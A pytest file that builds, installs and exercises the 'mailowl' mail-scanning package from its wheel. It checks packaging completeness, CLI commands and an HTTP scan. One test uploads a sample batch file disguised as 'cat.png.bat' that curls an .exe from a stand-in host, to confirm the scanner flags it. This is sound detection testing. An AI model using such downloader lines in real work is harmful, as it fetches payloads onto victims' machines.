"""mailowl as users install it: `python -m build` makes the sdist and, from it, the wheel; the wheel is
installed (not editable) into a fresh virtualenv, and the commands run from there, in a directory outside
the checkout, where nothing of src/ can be imported by accident. Every file under src/mailowl/ must be in
the wheel: a data file left out (as expr/grammar.lark once was) fails here, not on a user's machine."""

from __future__ import annotations

import fnmatch
import http.client
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from .server import free_port, stop_process

ROOT = Path(__file__).parent.parent
SRC = ROOT / "src" / "mailowl"
# a PeekabooAV ruleset.conf with an expressions rule: loading it reads the package's data files
RULESET = ROOT / "bench" / "ruleset.conf"
MAIL = ROOT / "tests" / "data" / "mail-samples" / "02-filename-in-disposition.eml"
KLMS_LINE = ('Nov 23 10:00:00 mx1 klms[12]: clean: message-id="<a@b>": relay-ip="10.0.0.1": action="Skipped": '
             'size=5: mail-from="x@y": rcpt-to="a@x.ru, b@y.ru"\n')


def source_files() -> list[str]:
    """Every file of the package in the checkout (tracked, or new and not ignored), relative to src/."""
    listed = subprocess.run(["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z", "src/mailowl"],
                            cwd=ROOT, capture_output=True, check=True).stdout.decode().split("\0")
    return sorted(name.removeprefix("src/") for name in listed if name and (ROOT / name).is_file())


def missing_from_wheel(sources: Iterable[str], wheel: Iterable[str]) -> list[str]:
    """What the wheel lacks: any source file, except C sources whose compiled module it has instead."""
    names = set(wheel)
    missing = []
    for name in sources:
        if name.endswith(".c"):
            stem = name[:-2]
            if not any(fnmatch.fnmatch(w, f"{stem}.*.so") or w == f"{stem}.so" for w in names):
                missing.append(f"{name} (no compiled module {stem}.*.so)")
        elif name not in names:
            missing.append(name)
    return missing


def test_missing_from_wheel_notices_a_data_file() -> None:
    sources = ["mailowl/__init__.py", "mailowl/expr/grammar.lark", "mailowl/logs/_fast.c"]
    assert missing_from_wheel(sources, ["mailowl/__init__.py", "mailowl/logs/_fast.cpython-311-x86_64-linux-gnu.so"]) \
        == ["mailowl/expr/grammar.lark"]
    assert missing_from_wheel(sources, ["mailowl/__init__.py", "mailowl/expr/grammar.lark"]) \
        == ["mailowl/logs/_fast.c (no compiled module mailowl/logs/_fast.*.so)"]


@dataclass
class Installed:
    dist: Path
    wheel: Path
    sdist: Path
    venv: Path
    work: Path

    @property
    def bin(self) -> Path:
        return self.venv / "bin"

    def env(self, **extra: str) -> dict[str, str]:
        # nothing of the test run leaks in: no PYTHONPATH, no MAILOWL_* settings
        env = {k: v for k, v in os.environ.items()
               if not k.startswith(("MAILOWL_", "PYTHON", "VIRTUAL_ENV", "NOTIFY_SOCKET"))}
        env["PATH"] = f"{self.bin}{os.pathsep}{env.get('PATH', '')}"
        return {**env, **extra}

    def run(self, *args: str, stdin: str | None = None, check: bool = True) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run([str(self.bin / "mailowl"), *args], cwd=self.work, env=self.env(), input=stdin,
                              capture_output=True, text=True, timeout=300)
        if check:
            assert proc.returncode == 0, f"mailowl {' '.join(args)}: {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
        return proc


def _run(args: list[str | Path], **kwargs: object) -> None:
    proc = subprocess.run([str(a) for a in args], capture_output=True, text=True, timeout=900, **kwargs)  # type: ignore[call-overload]
    assert proc.returncode == 0, f"{' '.join(map(str, args))}: {proc.returncode}\n{proc.stdout[-4000:]}\n{proc.stderr[-4000:]}"


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installed]:
    base = tmp_path_factory.mktemp("wheel")
    dist = base / "dist"
    # sdist first, then the wheel built from the unpacked sdist: both must be complete
    _run([sys.executable, "-m", "build", "--outdir", dist, ROOT])
    (wheel,), (sdist,) = dist.glob("mailowl-*.whl"), dist.glob("mailowl-*.tar.gz")
    venv = base / "venv"
    _run([sys.executable, "-m", "venv", venv])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV"))}
    _run([venv / "bin" / "python", "-m", "pip", "install", "-q", "--disable-pip-version-check", wheel], env=env)
    work = base / "work"  # outside the checkout: the current directory is on no import path of mailowl
    work.mkdir()
    assert not work.resolve().is_relative_to(ROOT.resolve())
    yield Installed(dist, wheel, sdist, venv, work)


def test_wheel_holds_every_file_of_the_package(installed: Installed) -> None:
    with zipfile.ZipFile(installed.wheel) as wheel:
        names = wheel.namelist()
    sources = source_files()
    assert any(name.endswith(".lark") or name.endswith(".toml") for name in sources)  # the check has data to check
    assert missing_from_wheel(sources, names) == []
    assert [n for n in names if n.endswith(".so")], "the C tokenizer was not compiled into the wheel"
    assert not [n for n in names if n.endswith(".c")]  # its source stays in the sdist


def test_sdist_holds_every_file_of_the_package(installed: Installed) -> None:
    with tarfile.open(installed.sdist) as sdist:
        top = installed.sdist.name.removesuffix(".tar.gz")
        names = {m.name.removeprefix(f"{top}/src/") for m in sdist.getmembers()}
    assert [name for name in source_files() if name not in names] == []


def test_version(installed: Installed) -> None:
    metadata = subprocess.run([str(installed.bin / "python"), "-c",
                               "import importlib.metadata as m; print(m.version('mailowl'))"],
                              cwd=installed.work, env=installed.env(), capture_output=True, text=True, check=True)
    version = metadata.stdout.strip()
    assert re.fullmatch(r"\d+\.\d+\.\d+\S*", version) and installed.wheel.name.startswith(f"mailowl-{version}-")
    assert installed.run("--version").stdout.strip() == f"mailowl {version}"


def test_runs_from_the_installed_package(installed: Installed) -> None:
    code = ("import mailowl, mailowl.logs.klms as k; import mailowl.logs._klmsfast; "
            "print(mailowl.__file__); print(k._fast is not None)")
    out = subprocess.run([str(installed.bin / "python"), "-c", code], cwd=installed.work, env=installed.env(),
                         capture_output=True, text=True, check=True).stdout.split()
    assert Path(out[0]).is_relative_to(installed.venv) and out[1] == "True"  # the compiled tokenizer is used


def test_check_config_with_a_peekaboo_ruleset(installed: Installed) -> None:
    shutil.copy(RULESET, installed.work / "ruleset.conf")
    assert "expressions" in RULESET.read_text()
    out = installed.run("check-config", "--ruleset", "ruleset.conf").stdout
    assert out.startswith("configuration ok") and "expressions" in out
    # and the built-in ruleset, which has expressions too
    assert installed.run("check-config").stdout.startswith("configuration ok")


def test_serve_and_a_v1_scan(installed: Installed) -> None:
    shutil.copy(RULESET, installed.work / "ruleset.conf")
    port = free_port()
    log = (installed.work / "serve.log").open("w")
    env = installed.env(MAILOWL_MILTER_LISTEN=f"127.0.0.1:{free_port()}")
    proc = subprocess.Popen([str(installed.bin / "mailowl"), "serve", "--listen", f"127.0.0.1:{port}",
                             "--data-dir", "data", "--ruleset", "ruleset.conf"],
                            cwd=installed.work, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        status, _ = _wait_healthy(proc, port, installed.work / "serve.log")
        assert status == 200
        boundary = "mailowlwheeltest"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"cat.png.bat\"\r\n"
                "Content-Type: application/octet-stream\r\n\r\n@echo off\r\ncurl http://x.invalid/a.exe\r\n\r\n"
                f"--{boundary}--\r\n").encode()
        status, answer = _request(port, "POST", "/v1/scan", body,
                                  {"Content-Type": f"multipart/form-data; boundary={boundary}"})
        assert status == 200 and isinstance(answer["job_id"], int), answer
        deadline = time.monotonic() + 120
        while True:
            status, report = _request(port, "GET", f"/v1/report/{answer['job_id']}")
            if status == 200:
                break
            assert time.monotonic() < deadline, (status, report)
            time.sleep(0.2)
        # a batch file that downloads an .exe: the ruleset's expression 4 finds it bad
        assert report["result"] == "bad" and "expression" in str(report["reason"]), report
        assert (installed.work / "data" / "mailowl.db").exists()
    finally:
        stop_process(proc)
        log.close()


def _request(port: int, method: str, path: str, body: bytes | None = None,
             headers: dict[str, str] | None = None) -> tuple[int, dict[str, object]]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        raw = response.read()
        return response.status, json.loads(raw) if raw else {}
    finally:
        conn.close()


def _wait_healthy(proc: subprocess.Popen[bytes], port: int, log: Path) -> tuple[int, dict[str, object]]:
    deadline = time.monotonic() + 120
    while True:
        if proc.poll() is not None:
            pytest.fail(f"mailowl serve exited {proc.returncode}: {log.read_text()}")
        try:
            return _request(port, "GET", "/healthz")
        except OSError:
            if time.monotonic() > deadline:
                pytest.fail(f"mailowl serve did not answer: {log.read_text()}")
            time.sleep(0.2)


def test_mail_inspect(installed: Installed) -> None:
    out = json.loads(installed.run("mail", "inspect", str(MAIL)).stdout)
    assert out["parts"], out


def test_logs_parse(installed: Installed) -> None:
    out = installed.run("logs", "parse", "--schema", "klms", stdin=KLMS_LINE + "not a verdict line\n").stdout
    documents = [json.loads(line) for line in out.splitlines()]
    assert documents[0]["rcpt_to"] == ["a@x.ru", "b@y.ru"] and len(documents) == 2


def test_db_upgrade(installed: Installed) -> None:
    # the migrations (Python files and a template in the package) run from site-packages
    (installed.work / "upgrade.toml").write_text('[server]\ndata_dir = "upgrade-data"\n')
    (installed.work / "upgrade-data").mkdir()
    assert installed.run("db", "upgrade", "--config", "upgrade.toml").stdout.strip() == "store schema is current"
    assert (installed.work / "upgrade-data" / "mailowl.db").stat().st_size > 0
    assert installed.run("db", "upgrade", "--config", "upgrade.toml").returncode == 0  # again: nothing to do
